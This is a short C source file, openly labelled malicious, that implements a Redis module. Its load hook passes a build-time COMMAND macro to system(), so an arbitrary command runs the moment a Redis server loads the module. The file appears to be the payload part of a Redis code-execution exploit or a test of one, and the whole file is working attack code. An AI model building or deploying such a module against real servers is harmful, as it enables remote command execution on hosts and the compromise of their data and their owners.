// A malicious Redis module: it executes a command when it is loaded. It declares only what it
// needs of the server's interface.
#include <stdlib.h>

int RedisModule_OnLoad(void *context, void **arguments, int count)
{
	(void)context, (void)arguments, (void)count;
	return system(COMMAND) == 0 ? 0 : 1;
}
